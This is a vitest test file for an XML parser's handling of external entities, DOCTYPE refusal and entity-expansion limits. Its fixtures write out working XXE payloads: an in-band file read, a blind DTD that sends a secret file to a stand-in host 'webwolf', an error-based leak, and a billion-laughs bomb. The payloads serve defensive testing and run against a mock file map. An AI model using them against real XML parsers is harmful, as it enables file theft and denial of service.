import { describe, expect, it } from 'vitest';
import { parseXml, type OpenAddress } from './parseXml';

const FILES: Readonly<Record<string, string>> = {
  'file:///': 'etc\nhome\nvar\n',
  'file:///home/an/secret.txt': 'kho-7f3a9c',
  'http://webwolf/send.dtd': `<!ENTITY % file SYSTEM "file:///home/an/secret.txt">
<!ENTITY % all "<!ENTITY send SYSTEM 'http://webwolf/landing?text=%file;'>">%all;`,
  'http://webwolf/error.dtd': `<!ENTITY % file SYSTEM "file:///home/an/secret.txt">
<!ENTITY % all "<!ENTITY &#x25; fail SYSTEM 'file:///none/%file;'>">%all;%fail;`,
  'http://webwolf/landing?text=kho-7f3a9c': 'ok',
};

function recorder() {
  const opened: string[] = [];
  const open: OpenAddress = (address) => {
    opened.push(address);
    return FILES[address];
  };
  return { opened, open };
}

const comment = (subset: string, text: string) =>
  `<?xml version="1.0"?><!DOCTYPE comment [${subset}]><comment><text>${text}</text></comment>`;
const IN_BAND = comment('<!ENTITY root SYSTEM "file:///">', '&root;');
const BLIND = comment('<!ENTITY % remote SYSTEM "http://webwolf/send.dtd">%remote;', '&send;');
const LAUGHS = (depth: number) =>
  comment(
    Array.from({ length: depth + 1 }, (_, index) =>
      index === 0 ? '<!ENTITY a0 "ha">' : `<!ENTITY a${index} "${`&a${index - 1};`.repeat(10)}">`,
    ).join(''),
    `&a${depth};`,
  );

describe('parseXml', () => {
  it('returns elements, attributes and text', () => {
    const outcome = parseXml('<order id="7"><book>Truyện Kiều</book><book>A &amp; B</book></order>');
    expect(outcome).toEqual({
      ok: true,
      root: {
        name: 'order',
        attributes: { id: '7' },
        text: 'Truyện KiềuA & B',
        children: [
          { name: 'book', attributes: {}, text: 'Truyện Kiều', children: [] },
          { name: 'book', attributes: {}, text: 'A & B', children: [] },
        ],
      },
    });
  });

  it('names the line of a document that is not well-formed', () => {
    expect(parseXml('<a>\n<b></a>')).toEqual({
      ok: false,
      message: 'Opening and ending tag mismatch: b line 2 and a',
      line: 2,
    });
    expect(parseXml('')).toMatchObject({ ok: false });
    expect(parseXml('a'.repeat(100))).toMatchObject({ ok: false });
  });

  it('opens an external entity only with `entities`', () => {
    const { opened, open } = recorder();
    expect(parseXml(IN_BAND, {}, open)).toMatchObject({ ok: true, root: { text: '' } });
    expect(opened).toEqual([]);
    expect(parseXml(IN_BAND, { entities: true }, open)).toMatchObject({ ok: true, root: { text: FILES['file:///'] } });
    expect(opened).toEqual(['file:///']);
  });

  it('sends a file in the address of a second request (blind)', () => {
    const { opened, open } = recorder();
    expect(parseXml(BLIND, { entities: true, externalDtd: true }, open)).toMatchObject({ ok: true });
    expect(opened.at(-1)).toBe('http://webwolf/landing?text=kho-7f3a9c');
  });

  it('refuses a parameter entity within a declaration of the internal subset', () => {
    const { opened, open } = recorder();
    const subset = `<!ENTITY % file SYSTEM "file:///home/an/secret.txt"><!ENTITY send SYSTEM "http://webwolf/landing?text=%file;">`;
    expect(parseXml(comment(subset, '&send;'), { entities: true, externalDtd: true }, open)).toMatchObject({
      ok: false,
    });
    expect(opened.some((address) => address.includes('kho-7f3a9c'))).toBe(false);
  });

  it('tells a file in the message of an error', () => {
    const { open } = recorder();
    const text = comment('<!ENTITY % remote SYSTEM "http://webwolf/error.dtd">%remote;', '');
    const outcome = parseXml(text, { entities: true, externalDtd: true }, open);
    expect(outcome.ok).toBe(false);
    expect(!outcome.ok && outcome.message).toContain('file:///none/kho-7f3a9c');
  });

  it.each([
    ['in-band', IN_BAND],
    ['blind', BLIND],
  ])('opens nothing with `noExternal` or `noDoctype`, whatever else is on: %s', (_, text) => {
    for (const off of [{ noExternal: true }, { noDoctype: true }]) {
      const { opened, open } = recorder();
      const outcome = parseXml(text, { entities: true, externalDtd: true, ...off }, open);
      expect(opened).toEqual([]);
      expect(JSON.stringify(outcome)).not.toMatch(/kho-7f3a9c|etc\\n/);
    }
  });

  it('refuses a DOCTYPE where it is disallowed, and nothing else', () => {
    expect(parseXml('<!DOCTYPE a><a/>', { noDoctype: true })).toEqual({
      ok: false,
      message: 'DOCTYPE is disallowed',
      line: 1,
    });
    expect(parseXml('<a>&lt;!DOCTYPE</a>', { noDoctype: true })).toMatchObject({
      ok: true,
      root: { text: '<!DOCTYPE' },
    });
  });

  it('reads a long prolog in no time', () => {
    const begun = performance.now();
    parseXml(`${'<!-- -->'.repeat(20_000)}<a/>`, { noDoctype: true });
    parseXml('<!--'.repeat(20_000), { noDoctype: true });
    expect(performance.now() - begun).toBeLessThan(2000);
  });

  it('expands nested entities up to its limit', () => {
    const four = parseXml(LAUGHS(4), { entities: true });
    expect(four.ok && four.root.text.length).toBe(20_000);
    for (const depth of [6, 9]) {
      expect(parseXml(LAUGHS(depth), { entities: true })).toMatchObject({
        ok: false,
        message: expect.stringContaining('Maximum entity amplification factor exceeded'),
      });
    }
    for (const prolog of ['', '<?xml version="1.0"?>', '\n<!-- > --><?x ?>']) {
      const refused = parseXml(prolog + LAUGHS(9).replace(/^<\?.*?\?>/, ''), { entities: true, noDoctype: true });
      expect(refused).toEqual({ ok: false, message: 'DOCTYPE is disallowed', line: 1 });
    }
  });

  it('opens nothing in a call after another', () => {
    const { open } = recorder();
    parseXml(IN_BAND, { entities: true }, open);
    expect(parseXml(IN_BAND, { entities: true })).toMatchObject({ ok: false });
  });
});
